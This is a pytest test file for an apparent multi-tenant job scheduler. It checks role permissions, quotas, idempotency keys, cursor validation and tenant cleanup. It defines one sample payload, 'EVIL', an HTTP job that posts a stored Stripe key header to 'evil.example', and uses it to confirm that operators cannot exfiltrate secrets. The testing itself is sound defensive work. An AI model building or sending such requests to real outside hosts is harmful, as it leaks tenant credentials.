"""How far somebody reaches: by a role, a quota, a key that was used before, or one request alone."""

import asyncio
from base64 import urlsafe_b64encode
from datetime import timedelta
from typing import Any
from uuid import uuid4

import pytest

from mainspring import Every, Schedule
from mainspring.api.tenancy import Tenancy
from mainspring.config import Settings
from mainspring.domain.access import Role
from mainspring.domain.errors import InvalidRequest
from mainspring.domain.job import Job
from mainspring.domain.tenants import Quotas
from mainspring.environment import SystemEnvironment
from mainspring.rest.reading import read_json
from mainspring.store.changes import put_job
from mainspring.store.database import Database, open_database
from mainspring.store.tenants import change_tenant, create_tenant, delete_tenant
from tests.linear import in_linear_time

from .conftest import Answered, Asker, key_for, serve
from .samples import Maker, fresh

pytestmark = pytest.mark.asyncio(loop_scope="session")

EVIL = {"method": "POST", "url": "https://evil.example/", "secret_headers": {"X-Key": "store:stripe-key"}}


async def entries(db: Database, action: str) -> int:
    async with db.connection() as connection:
        found: int = await connection.fetchval("SELECT count(*) FROM changes WHERE action = $1", action)
        return found


@pytest.mark.covers("F118")
async def test_an_operator_makes_no_job_by_asking_for_its_runs(db: Database, secured: Settings) -> None:
    """The secrets of a tenant could be sent anywhere that way."""
    async with serve(db, secured) as ask:
        editor, operator = [ask.with_key(await key_for(db, "shop", role)) for role in (Role.EDITOR, Role.OPERATOR)]
        plain, evil = {"name": "plain", "task": "noop"}, {"name": "evil", "http": EVIL}

        refused = [await operator("POST", "/runs", {"job": job, "runs": [{}]}) for job in (plain, evil)]
        made = await editor("POST", "/runs", {"job": plain, "runs": [{}]})
        asked = await operator("POST", "/runs", {"job": plain, "runs": [{"payload": {"n": 1}}]})

        assert [(each.status, each["code"]) for each in refused] == [(403, "forbidden")] * 2
        assert (made.status, asked.status) == (201, 201)
        assert [job["name"] for job in (await editor("GET", "/jobs"))["items"]] == ["plain"]


@pytest.mark.covers("F118")
async def test_an_operator_does_not_write_the_request_of_an_http_job(db: Database, secured: Settings) -> None:
    async with serve(db, secured) as ask:
        editor, operator = [ask.with_key(await key_for(db, "shop", role)) for role in (Role.EDITOR, Role.OPERATOR)]
        job = {"name": "ping", "http": {"method": "GET", "url": "https://good.example/"}}
        assert (await editor("POST", "/jobs", job)).status == 201
        run = (await operator("POST", "/jobs/ping/trigger", {}))["id"]
        assert (await operator("POST", f"/runs/{run}/cancel", {})).status == 200

        async def tried(asker: Asker, payload: Any) -> list[Answered]:
            runs = {"job": {"name": "ping", "http": job["http"]}, "runs": [{"payload": payload}]}
            return [
                await asker("POST", "/jobs/ping/trigger", {"payload": payload}),
                await asker("POST", f"/runs/{run}/retry", {"payload": payload}),
                await asker("POST", "/runs", runs),
            ]

        assert [each.status for each in await tried(operator, EVIL)] == [403] * 3
        assert [each.status for each in await tried(editor, {**EVIL, "url": "gopher://x/"})] == [422] * 3
        no_url = await tried(editor, {"method": "GET"})
        assert [each["field"] for each in no_url] == ["payload.url", "payload.url", "runs[0].payload.url"]
        assert [each.status for each in await tried(editor, EVIL)] == [201] * 3
        bulk = await operator("POST", "/bulk", {"action": "jobs.trigger", "ids": ["ping"], "payload": EVIL})
        ended = await until_ended(operator, bulk["id"])
        assert (ended["done"], ended["failed"], ended["failures"][0]["code"]) == (0, 1, "forbidden")


async def until_ended(asker: Asker, bulk: str) -> Answered:
    async with asyncio.timeout(30):
        while True:
            answer = await asker("GET", f"/bulk/{bulk}")
            if answer["ended_at"] is not None:
                return answer
            await asyncio.sleep(0.05)


async def test_quotas_hold_whichever_way_it_comes(db: Database, secured: Settings) -> None:
    async with serve(db, secured) as ask:
        editor = ask.with_key(await key_for(db, "shop", Role.EDITOR))
        await change_tenant(db, "shop", quotas=Quotas(jobs=1, payload_bytes=50))
        assert (await editor("POST", "/jobs", {"name": "one", "task": "noop"})).status == 201
        large = {"text": "x" * 60}

        two = await editor("POST", "/runs", {"job": {"name": "two", "task": "noop"}, "runs": [{}]})
        triggered = await editor("POST", "/jobs/one/trigger", {"payload": large})
        runs = {"job": {"name": "one", "task": "noop"}, "runs": [{}, {"payload": large}]}
        submitted = await editor("POST", "/runs", runs)
        bulk = await editor("POST", "/bulk", {"action": "jobs.trigger", "filter": {}, "payload": large})

        refused = [two, triggered, submitted, bulk]
        assert [(each.status, each["code"]) for each in refused] == [(422, "over_quota")] * 4
        assert [each["field"] for each in refused] == ["jobs", "payload", "runs[1].payload", "payload"]


async def test_a_request_that_was_answered_is_answered_so_whatever_holds_now(db: Database, secured: Settings) -> None:
    async with serve(db, secured) as ask:
        editor = ask.with_key(await key_for(db, "shop", Role.EDITOR)).given(Idempotency_Key="first")
        await change_tenant(db, "shop", quotas=Quotas(jobs=1))
        made = await editor("POST", "/jobs", {"name": "one", "task": "noop"})
        assert made.status == 201

        again = await editor("POST", "/jobs", {"name": "one", "task": "noop"})
        other = await editor("POST", "/jobs", {"name": "two", "task": "noop"})
        fresh_key = await editor("POST", "/jobs", {"name": "two", "task": "noop"}, headers={"Idempotency-Key": "2"})

        assert (again.status, again.body) == (201, made.body)
        assert (other.status, other["code"]) == (422, "idempotency_key_reused")
        assert (fresh_key.status, fresh_key["code"]) == (422, "over_quota")


async def test_of_two_requests_with_one_key_at_once_one_has_its_effect(ask: Asker) -> None:
    for _ in range(20):
        key, names = str(uuid4()), [fresh(), fresh()]
        # Something else is being written meanwhile, so that these two are written together, next.
        asked = [{"name": fresh(), "task": "noop"}, *({"name": name, "task": "noop"} for name in names)]
        keys = [str(uuid4()), key, key]

        answers = await asyncio.gather(
            *(ask("POST", "/jobs", job, headers={"Idempotency-Key": one}) for job, one in zip(asked, keys, strict=True))
        )

        assert sorted(answer.status for answer in answers[1:]) == [201, 422]
        there = [(await ask("GET", f"/jobs/{name}")).status for name in names]
        assert sorted(there) == [200, 404]


async def test_a_retry_whose_answer_was_lost_is_not_done_again(ask: Asker, db: Database) -> None:
    run = await Maker(ask, db, "default").done("fine")
    asker = ask.given(Idempotency_Key="again")
    first = await asker("POST", f"/runs/{run}/retry", {})
    async with db.transaction() as tx:
        await tx.execute("DELETE FROM answers")  # as when the server dies between the two

    second = await asker("POST", f"/runs/{run}/retry", {})
    another = await ask("POST", f"/runs/{run}/retry", {})

    assert (first.status, second.status, another.status) == (201, 201, 201)
    assert first["id"] == second["id"] != another["id"]
    async with db.connection() as connection:
        assert await connection.fetchval("SELECT count(*) FROM runs WHERE kind = 'replay'") == 2


async def test_a_letter_is_replayed_again_and_again_over_one_connection(dsn: str) -> None:
    """The second waited for a connection, with the only one in its hands."""
    async with open_database(dsn, size=1) as db, serve(db) as ask:
        letter = await Maker(ask, db, "default").dead()

        async with asyncio.timeout(20):
            answers = await asyncio.gather(*(ask("POST", f"/dead-letters/{letter}/replay", {}) for _ in range(8)))

        assert {answer.status for answer in answers} == {201}
        assert len({answer["id"] for answer in answers}) == 1
        assert await entries(db, "dead_letters.replay") == 1


async def test_what_changes_nothing_is_not_in_the_log(ask: Asker, db: Database) -> None:
    letter = await Maker(ask, db, "default").dead()
    discarded = [await ask("POST", f"/dead-letters/{letter}/discard", {}) for _ in range(3)]
    resumed = await ask("POST", "/pools/short/resume", {})

    assert [each["discarded"] for each in discarded] == [True, False, False]
    assert resumed["resumed"] is False
    assert await entries(db, "dead_letters.discard") == 1
    assert await entries(db, "pools.resume") == 0


@pytest.mark.parametrize("place", ["\0", "0001-01-01T00:00:00+14:00 {0}", "9999-12-31T23:59:59-14:00 {0}", "x", " "])
@pytest.mark.parametrize("path", ["/jobs", "/runs", "/dead-letters", "/changes", "/bulk", "/cluster/changes"])
async def test_a_cursor_that_nobody_gave_is_refused(ask: Asker, path: str, place: str) -> None:
    cursor = urlsafe_b64encode(place.format(uuid4()).encode()).decode().rstrip("=")

    answer = await ask("GET", path, params={"after": cursor})

    if path == "/jobs" and place.isprintable():  # any name is a place in that list
        assert answer.status == 200
    else:
        assert (answer.status, answer.body.get("field")) == (422, "after"), answer.body


async def test_a_name_that_is_there_twice_is_found_in_one_pass() -> None:
    names = ",".join(f'"{number}":0' for number in range(200_000))

    with in_linear_time(), pytest.raises(InvalidRequest, match='"7" is there twice'):
        read_json(f'{{{names},"7":1}}'.encode(), deepest=64)


async def test_a_quota_is_what_the_limiter_can_count(ask: Asker) -> None:
    refused = await ask("PATCH", "/tenants/default", {"quotas": {"burst": 200_000_000}})

    assert (refused.status, refused["field"]) == (422, "quotas.burst")
    assert (await ask("GET", "/me")).status == 200


async def test_a_job_that_was_made_while_its_tenant_was_deleted_does_not_outlive_it(db: Database) -> None:
    """A server knows for a few seconds only what a tenant was, and makes its jobs."""
    env = SystemEnvironment()
    for tenant in ("gone", "shop"):
        await create_tenant(db, tenant)
    await delete_tenant(db, "gone")
    hourly = Schedule(specs=(Every(timedelta(hours=1)),))
    jobs = [Job(name="late", task="noop", tenant=tenant, schedule=hourly) for tenant in ("gone", "shop", "never")]
    for job in jobs:
        await put_job(db, env, job, author="tests", reason="")

    assert await Tenancy(db, env).sweep() == 1

    async with db.connection() as connection:
        left = await connection.fetch("SELECT tenant FROM jobs WHERE deleted_at IS NULL ORDER BY tenant")
    assert [row["tenant"] for row in left] == ["never", "shop"]
    assert await Tenancy(db, env).sweep() == 0


@pytest.mark.covers("F113")
async def test_without_a_key_that_is_needed_nobody_is_told_to_come_from_here(db: Database, secured: Settings) -> None:
    async with serve(db, secured) as ask:
        for headers in ({"Host": "mainspring.example.com"}, {"Origin": "https://elsewhere.example"}):
            answer = await ask("GET", "/jobs", headers=headers)

            assert (answer.status, answer["code"]) == (401, "unauthenticated")
            assert answer.headers["WWW-Authenticate"].startswith("Bearer")


async def test_a_request_in_progress_says_when_to_ask_again(ask: Asker, db: Database) -> None:
    asker, job = ask.given(Idempotency_Key="slow"), {"name": fresh(), "task": "noop"}
    assert (await ask("POST", "/jobs", job)).status == 201
    path = f"/jobs/{job['name']}/trigger"
    assert (await asker("POST", path, {})).status == 201
    async with db.transaction() as tx:
        await tx.execute("UPDATE answers SET status = NULL, answer = NULL, finished_at = NULL, started_at = now()")

    answer = await asker("POST", path, {})

    assert (answer.status, answer["code"]) == (409, "request_in_progress")
    assert int(answer.headers["Retry-After"]) >= 1
